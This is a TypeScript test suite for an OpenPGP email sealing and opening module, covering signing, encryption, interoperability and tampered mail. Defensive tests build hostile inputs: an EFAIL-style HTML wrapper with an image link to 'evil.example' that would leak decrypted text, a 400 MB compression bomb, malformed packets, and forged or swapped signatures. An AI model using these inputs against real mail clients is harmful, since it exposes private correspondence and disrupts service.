/**
 * The OpenPGP lock: mail we seal comes back whole and is what others open; every form that others write is opened;
 * nothing is shown as more than it is.
 */
import { deflateRawSync } from 'node:zlib';
import { concat, fromUtf8, utf8, type Bytes } from '../../src/bytes';
import { LOOSEST_TERMS } from '../../src/handling/handling';
import { assessOpenPgp } from '../../src/locks/openpgp/assess';
import { openOpenPgp } from '../../src/locks/openpgp/layers';
import { sealForOpenPgp, type OpenPgpSealInput } from '../../src/locks/openpgp/seal';
import { type Layer, type Unwrapped, unwrapMail } from '../../src/locks/unwrap';
import { decodedBody, fieldNamed, partsOf, readEntity } from '../../src/message/entity';
import { type MessageContent } from '../../src/message/content';
import { armoured, onlyBlock } from '../../src/openpgp/armour';
import { readAutocrypt } from '../../src/openpgp/discovery';
import { factsOf, type OpenPgpKey, readSecretKey } from '../../src/openpgp/key';
import { type PrivateKey } from '../../src/openpgp/library';
import { makeOpenPgpKey, type OpenPgpKind } from '../../src/openpgp/make-key';
import { ringOf, sealMessage, signApart } from '../../src/openpgp/message';
import { Judges } from './judges';

const judges = new Judges();
const born = new Date(Date.now() - 86_400_000);
const NEUTRAL = 'A confidential message';
interface Person {
  secret: PrivateKey;
  key: OpenPgpKey;
}
const people: Record<string, Person> = {};
async function person(name: string, address: string, kind: OpenPgpKind = 'wide'): Promise<Person> {
  const secret = await readSecretKey((await makeOpenPgpKey(kind, { name, addresses: [address] }, born)).secret);
  return { secret, key: await factsOf(secret.toPublic()) };
}
beforeAll(async () => {
  people.maren = await person('Maren Oduya', 'maren.oduya@larkmoor.example');
  people.nils = await person('Nils Rook', 'underwriting@northquay.example');
  people.mallory = await person('Mallory', 'mallory@skerryfreight.example');
});

const message = (): MessageContent => ({
  messageId: 'a1b2c3@larkmoor.example',
  from: { name: 'Maren Oduya', address: 'maren.oduya@larkmoor.example' },
  to: [{ name: 'Nils Rook, Łódź', address: 'underwriting@northquay.example' }],
  cc: [],
  subject: 'Accident report MV Teal',
  date: new Date(Date.now() - 60_000),
  reference: 'AR-2611-009',
  text: 'Dear all,\r\nFrom now on …\r\n.\r\n- dashed\r\ntrailing blank \r\n',
  html: '<p>Dear all, Łódź</p>',
  files: [{ name: 'Report ✓.pdf', type: 'application/pdf', bytes: utf8('%PDF-1.7 made up') }],
});
const sealed = (change: Partial<OpenPgpSealInput> = {}): Promise<Bytes> =>
  sealForOpenPgp({
    message: message(),
    signer: people.maren!.secret,
    recipients: [people.nils!.key],
    own: people.maren!.key,
    form: 'mime',
    signedAt: new Date(Date.now() - 60_000),
    neutralSubject: NEUTRAL,
    ...change,
  });
const opened = (
  mail: Uint8Array,
  who: Person[] = [people.nils!],
  known: Person[] = [people.maren!],
): Promise<Unwrapped> =>
  unwrapMail(mail, [], (form, entity) =>
    openOpenPgp(form, entity, { secret: who.map(({ secret }) => secret), known: ringOf(known.map(({ key }) => key)) }),
  );
const kinds = (layers: readonly Layer[]): string[] =>
  layers.flatMap((layer) =>
    layer.kind === 'signed' && layer.by === 'openpgp' ? layer.checks.map(({ kind }) => kind) : [layer.kind],
  );
const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');

describe('what we seal', () => {
  test('signed and encrypted comes back whole with its real header, for each recipient and for the sender; outside stands nothing of it', async () => {
    const mail = await sealed();
    for (const who of [people.nils!, people.maren!]) {
      const found = await opened(mail, [who]);
      expect(kinds(found.layers)).toEqual(['encrypted', 'signed']);
      expect(found).toMatchObject({
        headerProtected: true,
        changedOutside: [],
        partsOnTheirOwn: 0,
        message: { subject: message().subject, reference: message().reference, html: message().html, to: message().to },
      });
      expect(found.message.files.map(({ name, bytes }) => [name, text(bytes)])).toEqual([
        ['Report ✓.pdf', '%PDF-1.7 made up'],
      ]);
      expect(found.message.text.replace(/\r\n/g, '\n').trimEnd()).toBe(message().text.replace(/\r\n/g, '\n').trimEnd());
    }
    expect(text(mail)).not.toMatch(/Accident|AR-2611|Report|MV Teal/);
    await expect(opened(mail, [people.mallory!])).rejects.toMatchObject({ code: 'not-for-us' });
  });

  test('another program opens its second part, and what is inside is the message whole', async () => {
    const [, second] = partsOf(readEntity(await sealed()));
    const { code, out } = judges.sqop(
      ['decrypt', judges.write('nils.sec', armoured('PRIVATE KEY BLOCK', people.nils!.secret.write() as Bytes))],
      decodedBody(readEntity(second!)),
    );
    expect(code).toBe(0);
    const inside = readEntity(out);
    expect(inside.contentType.parameters.get('hp')).toBe('cipher');
    expect(fieldNamed(inside, 'subject')).toBe(message().subject);
  });

  test('signed only is readable by anybody, right for another program over exactly its first part, and changed by one octet', async () => {
    const mail = await sealed({ recipients: [] });
    const entity = readEntity(mail);
    expect(entity.contentType.parameters.get('micalg')).toBe('pgp-sha512');
    const [part, beside] = partsOf(entity);
    const signature = judges.write('clear.sig', decodedBody(readEntity(beside!)));
    const keyFile = judges.write('maren.pub', armoured('PUBLIC KEY BLOCK', people.maren!.key.bytes));
    expect(judges.sqop(['verify', signature, keyFile], part).code).toBe(0);
    expect(kinds((await opened(mail)).layers)).toEqual(['signed']);
    expect(kinds((await opened(utf8(text(mail).replace('hp="clear"', 'hp="cleaR"')))).layers)).toEqual(['changed']);
    // Saved with bare line feeds, as files on disk often are.
    expect(kinds((await opened(utf8(text(mail).replaceAll('\r\n', '\n')))).layers)).toEqual(['signed']);
    expect(kinds((await opened(mail, [people.nils!], [])).layers)).toEqual(['no-key']);
  });

  test('encrypted without a key to sign with is said to be unsigned, and never neither', async () => {
    expect(kinds((await opened(await sealed({ signer: undefined }))).layers)).toEqual(['encrypted']);
    await expect(sealed({ signer: undefined, recipients: [] })).rejects.toBeInstanceOf(RangeError);
  });

  test('the sender’s key goes along as it was chosen: in the head, as a file, both, or not', async () => {
    const { key } = people.maren!;
    const head = fieldNamed(readEntity(await sealed({ carried: { key, field: true, file: false } })), 'autocrypt');
    expect(readAutocrypt(head!)).toMatchObject({
      address: 'maren.oduya@larkmoor.example',
      key: key.bytes,
      prefersEncryption: true,
    });
    const withFile = await sealed({ carried: { key, field: false, file: true } });
    expect(fieldNamed(readEntity(withFile), 'autocrypt')).toBeUndefined();
    expect((await opened(withFile)).message.files.map(({ name, type }) => [name, type])[1]).toEqual([
      `openpgp-key-${key.fingerprint.slice(-16)}.asc`,
      'application/pgp-keys',
    ]);
    expect(fieldNamed(readEntity(await sealed()), 'autocrypt')).toBeUndefined();
  });

  test('as encrypted files, each part is a message that another program opens, names and subject are sealed, and it comes back', async () => {
    const mail = await sealed({ form: 'attachments' });
    expect(text(mail)).not.toMatch(/Accident|AR-2611|Report|MV Teal|\.pdf/);
    const parts = partsOf(readEntity(mail)).map(readEntity);
    const secret = judges.write('nils2.sec', armoured('PRIVATE KEY BLOCK', people.nils!.secret.write() as Bytes));
    const [first, file] = parts.map((part) => judges.sqop(['decrypt', secret], decodedBody(part)));
    expect(fromUtf8(first!.out)).toContain(`${message().subject}\r\n\r\nDear all,`);
    expect(text(file!.out)).toBe('%PDF-1.7 made up');
    const found = await opened(mail);
    expect(kinds(found.layers)).toEqual(['encrypted', 'signed']);
    expect(found.layers[1]).toMatchObject({ apart: true });
    expect(found.message.files.map(({ name, bytes }) => [name, text(bytes)])).toEqual([
      ['Report ✓.pdf', '%PDF-1.7 made up'],
    ]);
    expect(found.message.text).toContain('From now on …');
  });
});

const mailOf = (type: string, body: string, head = 'From: maren.oduya@larkmoor.example\r\nSubject: x\r\n'): Bytes =>
  utf8(`${head}MIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}`);

describe('forms that others write', () => {
  const inline = async (signer?: Person): Promise<string> =>
    text(
      armoured(
        'MESSAGE',
        await sealMessage(utf8('Grüße vom Deck\n'), {
          signer: signer?.secret,
          recipients: [people.nils!.key],
          date: new Date(Date.now() - 60_000),
        }),
      ),
    );

  test('armour in the text, encrypted and signed; as a bare file, armoured and binary', async () => {
    const found = await opened(mailOf('text/plain; charset=utf-8', await inline(people.maren)));
    expect(kinds(found.layers)).toEqual(['encrypted', 'signed']);
    expect(found.message.text.trim()).toBe('Grüße vom Deck');
    const block = await inline(people.maren);
    for (const bare of [utf8(block), onlyBlock(utf8(block), 'MESSAGE')!])
      expect((await opened(bare)).message.text.trim()).toBe('Grüße vom Deck');
  });

  test('text signed in the clear, by another program', async () => {
    const made = judges.sqop(
      [
        'inline-sign',
        '--as=clearsigned',
        judges.write('maren.sec', armoured('PRIVATE KEY BLOCK', people.maren!.secret.write() as Bytes)),
      ],
      'Pay 100\n- and dash\n',
    );
    expect(made.code).toBe(0);
    const found = await opened(mailOf('text/plain', text(made.out)));
    expect(kinds(found.layers)).toEqual(['signed']);
    expect(found.message.text.replace(/\r\n/g, '\n').trim()).toBe('Pay 100\n- and dash');
    expect(kinds((await opened(mailOf('text/plain', text(made.out).replace('Pay 100', 'Pay 900')))).layers)).toEqual([
      'changed',
    ]);
  });

  const latin = (written: string): Bytes => Uint8Array.from(written, (character) => character.charCodeAt(0));
  const signedInClear = (written: Uint8Array): string => {
    const made = judges.sqop(
      [
        'inline-sign',
        '--as=clearsigned',
        judges.write('maren.sec', armoured('PRIVATE KEY BLOCK', people.maren!.secret.write() as Bytes)),
      ],
      written,
    );
    expect(made.code).toBe(0);
    return text(made.out);
  };
  /** Signed by a python library over the octets, as programs do whose text is not UTF-8. */
  const signedInLatin = (written: string): string => {
    judges.write('maren.sec', armoured('PRIVATE KEY BLOCK', people.maren!.secret.write() as Bytes));
    const signature = judges.pgpy(
      `key, _ = pgpy.PGPKey.from_file("maren.sec")\nbody = bytes.fromhex("${Buffer.from(latin(written.replaceAll('\n', '\r\n'))).toString('hex')}")\nsig = key.sign(body)\nprint(str(sig))`,
    );
    return `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n${written}\n${signature}`;
  };

  test('text signed in the clear in another character set is right over its octets, and read in its letters', async () => {
    const clear = signedInLatin('Gr\xfc\xdfe vom Deck\nf\xfcr Sie');
    const found = await opened(concat(mailOf('text/plain; charset=iso-8859-1', ''), latin(clear)));
    expect(kinds(found.layers)).toEqual(['signed']);
    expect(found.message.text.replace(/\r\n/g, '\n').trim()).toBe('Grüße vom Deck\nfür Sie');
    const changed = await opened(
      concat(mailOf('text/plain; charset=iso-8859-1', ''), latin(clear.replace('f\xfcr', 'f\xfcl'))),
    );
    expect(kinds(changed.layers)).toEqual(['changed']);
  });

  test.each<[string, (clear: string) => string]>([
    ['a line under it', (clear) => `${clear}\n-- \nSent through a list\n`],
    [
      'its signature damaged',
      (clear) => clear.replace(/(BEGIN PGP SIGNATURE-----\r?\n\r?\n)[A-Za-z0-9+/]{8}/, '$1@@@@@@@@'),
    ],
    [
      'its signature replaced by words',
      (clear) => clear.replace(/-----BEGIN PGP SIGNATURE-----[\s\S]*/, '[signature removed]\n'),
    ],
    ['its signature cut off', (clear) => clear.slice(0, clear.indexOf('-----END PGP SIGNATURE-----'))],
    ['words in its head', (clear) => clear.replace('Hash:', 'Note: pay at once\r\nHash:')],
  ])('text signed in the clear with %s is shown, and nobody vouches for it', async (_, touched) => {
    const found = await opened(mailOf('text/plain', touched(signedInClear(utf8('The papers follow.\n')))));
    expect(kinds(found.layers)).toEqual(['unreadable']);
    expect(found.message.text).toContain('The papers follow.');
  });

  test('a signature beside the text that was damaged, doubled or lost keeps nobody from reading', async () => {
    const mail = text(await sealed({ recipients: [] }));
    const boundary = /boundary="([^"]+)"/.exec(mail)![1]!;
    const end = `--${boundary}--`;
    const touched = [
      mail.replace(/(BEGIN PGP SIGNATURE-----\r\n\r\n)[A-Za-z0-9+/]{8}/, '$1@@@@@@@@'),
      mail.replace(end, `--${boundary}\r\nContent-Type: text/plain\r\n\r\nSent through a list\r\n${end}`),
      mail.replace(/-----BEGIN PGP SIGNATURE[\s\S]*END PGP SIGNATURE-----/, '[removed]'),
    ];
    for (const one of touched) {
      const found = await opened(utf8(one));
      expect(kinds(found.layers)).toEqual(['unreadable']);
      expect(found.message.text).toContain('Dear all,');
    }
    expect((await opened(utf8(touched[1]!))).message.text).toContain('Sent through a list');
  });

  test('what a gateway made multipart/mixed opens, with an empty text in front or without; with other words it stays closed and is counted', async () => {
    const mail = text(await sealed());
    const mixed = mail
      .replace('multipart/encrypted', 'multipart/mixed')
      .replace(/;\s+protocol="application\/pgp-encrypted"/, '');
    expect(mixed).not.toContain('multipart/encrypted');
    expect(kinds((await opened(utf8(mixed))).layers)).toEqual(['encrypted', 'signed']);
    const boundary = /boundary="([^"]+)"/.exec(mixed)![1]!;
    const withFirst = (words: string): Bytes =>
      utf8(
        mixed.replace(`--${boundary}`, `--${boundary}\r\nContent-Type: text/plain\r\n\r\n${words}\r\n--${boundary}`),
      );
    expect(kinds((await opened(withFirst('\r\n \r\n'))).layers)).toEqual(['encrypted', 'signed']);
    expect(await opened(withFirst('Please open this'))).toMatchObject({ layers: [], partsOnTheirOwn: 1 });
    const lost = mail.replace(/;\s+protocol="application\/pgp-encrypted"/, '');
    expect(lost).not.toContain('protocol=');
    expect(kinds((await opened(utf8(lost))).layers)).toEqual(['encrypted', 'signed']);
    const clear = text(await sealed({ recipients: [] })).replace('multipart/signed', 'multipart/mixed');
    expect(clear).not.toContain('multipart/signed');
    expect(kinds((await opened(utf8(clear))).layers)).toEqual(['signed']);
  });

  test('armour says in which character set the text inside is', async () => {
    const block = text(
      armoured(
        'MESSAGE',
        await sealMessage(latin('Gr\xfc\xdfe'), { signer: undefined, recipients: [people.nils!.key], date: born }),
      ),
    );
    const said = block.replace('MESSAGE-----\r\n', 'MESSAGE-----\r\nCharset: ISO-8859-1\r\n');
    for (const mail of [
      mailOf('text/plain; charset=utf-8', said),
      utf8(said),
      mailOf('text/plain; charset=iso-8859-1', block),
    ])
      expect((await opened(mail)).message.text.trim()).toBe('Grüße');
    // Cyrillic letters: nothing but the label tells.
    const other = text(
      armoured(
        'MESSAGE',
        await sealMessage(latin('\xf0\xd2\xc9'), { signer: undefined, recipients: [people.nils!.key], date: born }),
      ),
    ).replace('MESSAGE-----\r\n', 'MESSAGE-----\r\nCharset: KOI8-R\r\n');
    expect((await opened(mailOf('text/plain', other))).message.text.trim()).toBe('При');
  });

  test('two hundred files as attachments come back', async () => {
    const files = Array.from({ length: 200 }, (_, index) => ({
      name: `paper-${index}.txt`,
      type: 'text/plain',
      bytes: utf8(`paper ${index}`),
    }));
    const found = await opened(
      await sealed({ form: 'attachments', signer: undefined, message: { ...message(), files } }),
    );
    expect(kinds(found.layers)).toEqual(['encrypted']);
    expect(found.message.files.map(({ name }) => name)).toEqual(files.map(({ name }) => name));
  }, 120_000);

  test('a file somebody encrypted comes back as a file under its own name', async () => {
    const found = await opened(
      await sealMessage(Uint8Array.of(0, 1, 2, 255), {
        signer: undefined,
        recipients: [people.nils!.key],
        date: new Date(),
        fileName: 'crew list.bin',
      }),
    );
    expect(found.message.files.map(({ name, bytes }) => [name, [...bytes]])).toEqual([
      ['crew list.bin', [0, 1, 2, 255]],
    ]);
  });
});

describe('mail that pretends', () => {
  const inlineFor = async (words: string): Promise<string> =>
    text(
      armoured(
        'MESSAGE',
        await sealMessage(utf8(words), {
          signer: people.maren!.secret,
          recipients: [people.nils!.key],
          date: new Date(Date.now() - 60_000),
        }),
      ),
    );

  test('text around a locked message leaves it closed, and says so', async () => {
    const found = await opened(
      mailOf('text/plain', `Please answer with this in full:\r\n\r\n${await inlineFor('the secret')}\r\nThanks`),
    );
    expect(kinds(found.layers)).toEqual([]);
    expect(found.partsOnTheirOwn).toBe(1);
    expect(found.message.text).not.toContain('the secret');
  });

  test('a locked part beside another stays closed: nothing of it can be answered by mistake', async () => {
    const [, second] = partsOf(readEntity(await sealed()));
    const found = await opened(
      mailOf(
        'multipart/mixed; boundary=m',
        `--m\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/?\r\n--m\r\nContent-Type: text/plain\r\n\r\n${text(decodedBody(readEntity(second!)))}\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n`,
      ),
    );
    expect(kinds(found.layers)).toEqual([]);
    expect(found.partsOnTheirOwn).toBe(1);
    expect(JSON.stringify(found.message)).not.toContain('Accident report');
  });

  test('a signature over one part vouches for nothing beside it', async () => {
    const signed = text(await sealed({ recipients: [] }));
    const type = /Content-Type: (multipart\/signed[\s\S]*?micalg=[\w-]+)/.exec(signed)![1]!;
    const body = signed.slice(signed.indexOf('\r\n\r\n') + 4);
    const found = await opened(
      mailOf(
        'multipart/mixed; boundary=outside',
        `--outside\r\nContent-Type: text/plain\r\n\r\nPay at once.\r\n--outside\r\nContent-Type: ${type}\r\n\r\n${body}\r\n--outside--\r\n`,
      ),
    );
    expect(kinds(found.layers)).toEqual([]);
    expect(found.partsOnTheirOwn).toBe(1);
  });

  test('a third part, a second signature part, a control part that is none: malformed', async () => {
    const mail = text(await sealed());
    const boundary = /boundary="([^"]+)"/.exec(mail)![1]!;
    await expect(
      opened(
        utf8(
          mail.replace(`--${boundary}--`, `--${boundary}\r\nContent-Type: text/plain\r\n\r\nPay.\r\n--${boundary}--`),
        ),
      ),
    ).rejects.toMatchObject({ code: 'malformed' });
    await expect(
      opened(utf8(mail.replace('Content-Type: application/pgp-encrypted\r\n\r\n', 'Content-Type: text/plain\r\n\r\n'))),
    ).rejects.toMatchObject({ code: 'malformed' });
  });

  test('one octet changed in what is encrypted: it does not open, and nothing of it is shown', async () => {
    const mail = await sealed();
    const [, second] = partsOf(readEntity(mail));
    const packets = onlyBlock(decodedBody(readEntity(second!)), 'MESSAGE')!;
    for (const at of [packets.length - 3, packets.length - 400, Math.floor(packets.length * 0.7)]) {
      const changed = packets.map((octet, index) => (index === at ? octet ^ 1 : octet)) as Bytes;
      await expect(
        opened(
          utf8(
            text(mail).replace(
              /-----BEGIN PGP MESSAGE-----[\s\S]*-----END PGP MESSAGE-----\r\n/,
              text(armoured('MESSAGE', changed)),
            ),
          ),
        ),
      ).rejects.toMatchObject({ code: 'not-opened' });
    }
  });

  test('ciphertext of one person’s mail put into another’s is shown with its own sealed sender', async () => {
    const mail = text(await sealed()).replace(
      'From: "Maren Oduya" <maren.oduya@larkmoor.example>',
      'From: <mallory@skerryfreight.example>',
    );
    const found = await opened(utf8(mail));
    expect(found.changedOutside).toContain('from');
    expect(found.message.from.address).toBe('maren.oduya@larkmoor.example');
  });

  test('text and files signed by two people, or one of them by nobody, count as signed by nobody', async () => {
    const one = async (words: string, signer?: Person): Promise<string> =>
      text(
        armoured(
          'MESSAGE',
          await sealMessage(utf8(words), {
            signer: signer?.secret,
            recipients: [people.nils!.key],
            date: new Date(Date.now() - 60_000),
          }),
        ),
      );
    for (const second of [people.mallory, undefined]) {
      const found = await opened(
        mailOf(
          'multipart/mixed; boundary=m',
          `--m\r\nContent-Type: text/plain\r\n\r\n${await one('Pay', people.maren)}\r\n--m\r\nContent-Type: application/octet-stream; name="x.asc"\r\n\r\n${await one('more', second)}\r\n--m--\r\n`,
        ),
        [people.nils!],
        [people.maren!, people.mallory!],
      );
      expect(kinds(found.layers)).toEqual(['encrypted']);
    }
  });

  test('an old packet without a seal against changes is not opened', async () => {
    // RFC 9580 §5.7: tag 9, after a session key of ours.
    const packets = await sealMessage(utf8('x'), {
      signer: undefined,
      recipients: [people.nils!.key],
      date: new Date(),
    });
    const old = concat(packets.slice(0, packets.length - 50), Uint8Array.of(0xc9, 10, ...new Uint8Array(10)));
    await expect(
      opened(utf8(`From: a@b.example\r\nContent-Type: text/plain\r\n\r\n${text(armoured('MESSAGE', old))}`)),
    ).rejects.toMatchObject({ name: 'UnwrapError' });
  });

  test('what unfolds again and again without a layer of its own is left closed', async () => {
    const literal = (content: Uint8Array): Bytes =>
      concat(
        Uint8Array.of(0xcb, 0xff, 0, 0, (content.length + 6) >> 8, (content.length + 6) & 255, 0x62, 0, 0, 0, 0, 0),
        content,
      );
    let body = utf8('The innermost.');
    for (let depth = 0; depth < 12; depth++) body = armoured('MESSAGE', literal(body));
    await expect(opened(mailOf('text/plain', text(body)))).rejects.toMatchObject({ code: 'too-deep' });
  });

  test('a bomb is stopped where it unfolds', async () => {
    // RFC 9580 §5.6: compressed data, here 400 MB of noughts in a literal that says so.
    const literal = Buffer.concat([
      Buffer.from([0xcb, 0xff, 0x17, 0xd7, 0x84, 0x06, 0x62, 0, 0, 0, 0, 0]),
      Buffer.alloc(400_000_000),
    ]);
    const packed = deflateRawSync(literal, { level: 1 });
    const head = Buffer.from([0xc8, 0xff, 0, 0, 0, 0, 1]);
    head.writeUInt32BE(packed.length + 1, 2);
    await expect(opened(new Uint8Array(Buffer.concat([head, packed])))).rejects.toMatchObject({ code: 'malformed' });
  }, 60_000);

  test('sessions for thousands, lengths that lie, a bomb: refused at once', async () => {
    const session = Uint8Array.of(0xc1, 12, 3, ...new Uint8Array(8), 18, 0, 0);
    const many = concat(...Array.from({ length: 1300 }, () => session), Uint8Array.of(0xd2, 1, 1));
    await expect(opened(many)).rejects.toMatchObject({ code: 'malformed' });
    await expect(opened(Uint8Array.of(0xd2, 0xff, 0xff, 0xff, 0xff, 0xff, 1))).rejects.toMatchObject({
      code: 'malformed',
    });
    await expect(opened(Uint8Array.of(0xcb, 0xfe, 1, 2, 3))).rejects.toMatchObject({ code: 'malformed' });
  });
});

describe('in the plan', () => {
  const handling = { ...LOOSEST_TERMS, clear: false, check: 'text', leastCheck: 'question' } as const;
  const nils = { name: 'Nils', address: 'underwriting@northquay.example', role: 'to' } as const;
  const context = (over: object = {}) => ({
    message: 'x',
    fileCount: 1,
    size: 1_000,
    sender: { address: 'm@larkmoor.example', signs: false, signsOpenPgp: true, phones: [], addresses: [] },
    others: [],
    ...over,
  });
  const codes = (items: readonly { code: string }[]): string[] => items.map(({ code }) => code);
  test.each([
    [undefined, ['key-missing'], []],
    [{ level: 'valid', readsNewest: false }, [], []],
    [{ level: 'stop', readsNewest: false }, ['key-unusable'], []],
    [{ level: 'unchecked', readsNewest: false }, [], ['key-unchecked']],
    [{ level: 'valid', readsNewest: true, runsOut: new Date() }, [], ['key-runs-out']],
  ] as const)('%j', (openpgp, missing, warnings) => {
    const assessed = assessOpenPgp({ ...nils, ...(openpgp === undefined ? {} : { openpgp }) }, handling, context());
    expect([codes(assessed.missing), codes(assessed.warnings), assessed.available]).toEqual([
      missing,
      warnings,
      missing.length === 0,
    ]);
  });
  test('who makes everybody’s copy go in the older format is told apart', () => {
    expect(
      codes(
        assessOpenPgp(
          { ...nils, openpgp: { level: 'valid', readsNewest: false } },
          handling,
          context({ mixedOpenPgp: true }),
        ).warnings,
      ),
    ).toEqual(['older-format']);
    expect(
      codes(
        assessOpenPgp(
          { ...nils, openpgp: { level: 'valid', readsNewest: true } },
          handling,
          context({ mixedOpenPgp: true }),
        ).warnings,
      ),
    ).toEqual([]);
  });
  test('signed and readable wants a key of one’s own', () => {
    expect(
      codes(
        assessOpenPgp(
          nils,
          { ...handling, clear: true },
          context({ sender: { ...context().sender, signsOpenPgp: false } }),
        ).missing,
      ),
    ).toEqual(['own-key-missing']);
    expect(assessOpenPgp(nils, { ...handling, clear: true }, context())).toMatchObject({
      clear: true,
      available: true,
      missing: [],
    });
  });
});

test('a signature somebody made for another text is wrong here', async () => {
  const { signature } = await signApart(utf8('another text'), people.maren!.secret, new Date());
  const mail = text(await sealed({ recipients: [] })).replace(
    /-----BEGIN PGP SIGNATURE-----[\s\S]*-----END PGP SIGNATURE-----\r\n/,
    text(armoured('SIGNATURE', signature)),
  );
  expect(kinds((await opened(utf8(mail))).layers)).toEqual(['changed']);
});
